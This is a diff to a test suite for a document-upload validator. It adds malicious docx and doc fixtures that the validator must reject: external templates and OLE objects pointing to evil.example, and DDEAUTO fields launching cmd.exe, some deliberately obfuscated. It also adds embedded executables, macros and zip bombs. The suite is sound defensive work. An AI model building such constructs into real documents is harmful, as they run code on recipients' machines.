@@ -11,7 +11,47 @@ const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml
 const otherKind =
   "This kind of file can't be put into a text. Choose a JPEG, PNG, GIF or WebP picture, or a PDF, doc or docx file.";
 const macros = 'This document holds macros. Save it as a docx without them, then choose that one.';
+const objects =
+  'This document holds an embedded object or program. Remove it or replace it with a picture, then choose the document again.';
+const elsewhere =
+  'This document loads something from another place when it is opened, such as a template or a linked picture. Remove the ' +
+  'link, then choose the document again.';
+const commands =
+  'This document holds a field that can start other programs (DDE). Remove the field, then choose the document again.';
 const notAPicture = 'This file could not be read as a picture. Use a JPEG, PNG, WebP or GIF file.';
+/** An empty storage for objects, as Word makes it: its entry has no child. */
+const emptyPool = (): Buffer => {
+  const file = doc('ObjectPool');
+  const entry = 512 + 3 * 128;
+  file[entry + 66] = 1;
+  file.writeUInt32LE(0xffffffff, entry + 76);
+  return file;
+};
+
+const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const relation = (type: string, target: string, mode?: string): string =>
+  `<Relationship Id="rId1" Type="${office}/${type}" Target="${target}"${mode === undefined ? '' : ` TargetMode="${mode}"`}/>`;
+const relationsOf = (part: string, ...relations: readonly string[]): Part => ({
+  name: `word/_rels/${part}.xml.rels`,
+  content: `<?xml version="1.0" encoding="UTF-8"?><Relationships>${relations.join('')}</Relationships>`,
+});
+const wordPart = (name: string, body: string): Part => ({
+  name: `word/${name}.xml`,
+  content: `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${body}</w:document>`,
+});
+const marks: ReadonlySet<string> = new Set(['begin', 'separate', 'end']);
+/** Runs of a field: its marks, and texts of its instruction. */
+const fields = (...runs: readonly string[]): string =>
+  runs
+    .map((run) =>
+      marks.has(run)
+        ? `<w:r><w:fldChar w:fldCharType="${run}"/></w:r>`
+        : `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`,
+    )
+    .join('');
+const spreadsheet = (...more: readonly Part[]): Buffer =>
+  zipOf([listOf('', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'), ...more]);
+
 const html = '<!doctype html><script>document.title="ran"</script>';
 
 let server: TestServer;
@@ -52,6 +92,33 @@ describe('what is taken', () => {
       'docx',
       docxType,
       'attachment; filename="document.docx"',
+    ],
+    'a docx as Word writes it': [
+      docx(
+        relationsOf(
+          'document',
+          relation('image', 'media/a.png'),
+          relation('hyperlink', 'https://example.org/dde', 'External'),
+          relation('package', 'embeddings/chart.xlsx'),
+        ),
+        { name: 'word/embeddings/chart.xlsx', content: spreadsheet(), stored: true },
+        { name: 'word/media/a.svg', content: '<svg xmlns="http://www.w3.org/2000/svg"/>' },
+        wordPart(
+          'footnotes',
+          fields('begin', ' PAGE ', 'separate', 'end') +
+            fields('begin', ' HYPERLINK "https://a.example/DDE" ', 'separate', 'end') +
+            '<w:t>What DDE and DDEAUTO were. LINK, INCLUDE.</w:t>',
+        ),
+      ),
+      'docx',
+      docxType,
+      'attachment; filename="document.docx"',
+    ],
+    'a doc whose pool of objects is empty, and that speaks of DDEAUTO': [
+      Buffer.concat([emptyPool(), Buffer.from('What DDEAUTO was'), Buffer.from('\x13 PAGE \x14DDEAUTO', 'latin1')]),
+      'doc',
+      'application/msword',
+      'attachment; filename="document.doc"',
     ],
     'a PDF that goes on as HTML and ends as a ZIP': [
       Buffer.concat([Buffer.from(`%PDF-1.7\n${html}`), docx()]),
@@ -196,6 +263,154 @@ const refusedFiles: Readonly<Record<string, readonly [() => Buffer | Promise<Buf
   'a doc that only speaks of being one': [
     () => Buffer.concat([ole('Workbook'), Buffer.from('..WordDocument', 'utf16le')]),
     otherKind,
+  ],
+  'a docx with a template elsewhere': [
+    () => docx(relationsOf('settings', relation('attachedTemplate', 'https://evil.example/a.dotm', 'External'))),
+    elsewhere,
+  ],
+  'a docx with a template elsewhere, in the relationships of another part': [
+    () =>
+      docx({
+        ...relationsOf('x', relation('attachedTemplate', '\\\\evil\\a.dotx', 'External')),
+        name: 'a/_rels/b.rels',
+      }),
+    elsewhere,
+  ],
+  'a docx with a picture elsewhere': [
+    () => docx(relationsOf('document', relation('image', 'https://evil.example/a.png', 'External'))),
+    elsewhere,
+  ],
+  'a docx with a frame elsewhere': [
+    () => docx(relationsOf('webSettings', relation('frame', 'https://evil.example/', 'External'))),
+    elsewhere,
+  ],
+  'a docx with an object elsewhere': [
+    () => docx(relationsOf('document', relation('oleObject', 'mhtml:https://evil.example/!x', 'External'))),
+    objects,
+  ],
+  'a docx with a part to import': [
+    () => docx(relationsOf('document', relation('aFChunk', 'a.html')), { name: 'word/a.html', content: html }),
+    elsewhere,
+  ],
+  'a docx whose relation hides behind another namespace': [
+    () =>
+      docx(
+        relationsOf(
+          'document',
+          `<Relationship x:Type="hyperlink" Type="${office}/image" Target="//evil" TargetMode="External" x:TargetMode="Internal"/>`,
+        ),
+      ),
+    elsewhere,
+  ],
+  'a docx whose relation is spelled with characters by number': [
+    () =>
+      docx(relationsOf('document', `<Relationship Type="${office}/image" Target="//evil" TargetMode="&#69;xternal"/>`)),
+    elsewhere,
+  ],
+  'a docx with a field of DDE': [
+    () => docx(wordPart('comments', fields('begin', ' DDE excel "a" ', 'separate', 'end'))),
+    commands,
+  ],
+  'a docx with a field of DDEAUTO in several runs': [
+    () => docx(wordPart('header1', fields('begin', ' D', 'DEA', 'UTO c:\\windows\\system32\\cmd.exe', 'end'))),
+    commands,
+  ],
+  'a docx with a field of DDEAUTO that is never closed, in small letters and quotes': [
+    () => docx(wordPart('footer1', fields('begin', '"ddeauto" c:\\cmd.exe'))),
+    commands,
+  ],
+  'a docx with a field of DDEAUTO that another field shows': [
+    () =>
+      docx(
+        wordPart(
+          'endnotes',
+          `${fields('begin', 'begin', 'QUOTE 68', 'separate')}<w:r><w:t>DDEAUTO</w:t></w:r>${fields('end', ' c:\\cmd.exe', 'end')}`,
+        ),
+      ),
+    commands,
+  ],
+  'a docx with a simple field of DDEAUTO': [
+    () => docx(wordPart('footnotes', '<w:fldSimple w:instr=" &#68;DEAUTO c:\\cmd.exe "><w:r/></w:fldSimple>')),
+    commands,
+  ],
+  'a docx with a field of DDE under another prefix': [
+    () => docx(wordPart('a', '<x:fldSimple xmlns:x="w" x:instr="DDE a b" y:instr="PAGE"/>')),
+    commands,
+  ],
+  'a docx with a field that reads another file': [
+    () => docx(wordPart('a', fields('begin', 'INCLUDETEXT "https://evil.example/a.docx"', 'end'))),
+    elsewhere,
+  ],
+  'a docx with a program': [
+    () => docx({ name: 'word/media/a.png', content: Buffer.from('MZ\x90\0', 'latin1'), stored: true }),
+    objects,
+  ],
+  'a docx with something called a program': [() => docx({ name: 'word/embeddings/a.EXE', content: 'x' }), objects],
+  'a docx with an embedded object': [
+    () => docx({ name: 'word/embeddings/oleObject1.bin', content: ole('\u0001Ole10Native') }),
+    objects,
+  ],
+  'a docx with a control': [() => docx({ name: 'word/activeX/activeX1.xml', content: '<ax:ocx/>' }), objects],
+  'a docx with an object in its text': [
+    () => docx(wordPart('a', '<w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object>')),
+    objects,
+  ],
+  'a docx with a spreadsheet with macros': [
+    () => docx({ name: 'word/embeddings/a.xlsx', content: spreadsheet({ name: 'xl/vbaProject.bin', content: 'x' }) }),
+    macros,
+  ],
+  'a docx with a spreadsheet with a document': [
+    () =>
+      docx({ name: 'word/embeddings/a.xlsx', content: spreadsheet({ name: 'xl/embeddings/a.docx', content: docx() }) }),
+    objects,
+  ],
+  'a docx with a ZIP': [() => docx({ name: 'word/a.dat', content: zipOf([rels]), stored: true }), objects],
+  'a docx with a part longer than it says': [
+    () => docx({ name: 'word/a.xml', content: '<a/>'.repeat(100), unpacked: 4 }),
+    otherKind,
+  ],
+  'a docx with a part shorter than it says': [
+    () => docx({ name: 'word/a.xml', content: '<a/>', unpacked: 400 }),
+    otherKind,
+  ],
+  'a docx with a stored part longer than it says': [
+    () => docx({ name: 'word/a.xml', content: '<a/>', stored: true, unpacked: 3 }),
+    otherKind,
+  ],
+  'a docx with a part of a bomb that tells less': [
+    () => docx({ ...bomb('word/a.xml', 8 * megabyte), unpacked: 100 }),
+    otherKind,
+  ],
+  'a docx with a document type in a part': [
+    () => docx({ name: 'word/a.xml', content: '<!DOCTYPE a [<!ENTITY b "DDEAUTO">]><a/>' }),
+    otherKind,
+  ],
+  'a docx with a part in UTF-16': [
+    () => docx({ name: 'word/a.xml', content: Buffer.from('\ufeff<a/>', 'utf16le') }),
+    otherKind,
+  ],
+  'a docx with a part in UTF-7': [
+    () => docx({ name: 'word/a.xml', content: '<?xml version="1.0" encoding="utf-7"?><a/>' }),
+    otherKind,
+  ],
+  'a docx with XML that is not called so': [
+    () =>
+      zipOf([
+        listOf('<Override PartName="/word/a.dat" ContentType="application/vnd.openxmlformats.footnotes+xml"/>'),
+        wordDocument,
+        { name: 'word/a.dat', content: '<a/>' },
+      ]),
+    otherKind,
+  ],
+  'a doc with an object': [() => doc('ObjectPool'), objects],
+  'a doc with a program': [() => doc('\u0001Ole10Native'), objects],
+  'a doc with a field of DDEAUTO': [
+    () => Buffer.concat([doc(), Buffer.from('\x13 DDEAUTO c:\\cmd.exe \x15', 'latin1')]),
+    commands,
+  ],
+  'a doc with a field of DDE in UTF-16': [
+    () => Buffer.concat([doc(), Buffer.from('\x13dde excel', 'utf16le')]),
+    commands,
   ],
   'a program': [() => Buffer.from('MZ\x90\0\x03', 'latin1'), otherKind],
   'half a picture': [async () => (await pictures.png()).subarray(0, 600), notAPicture],
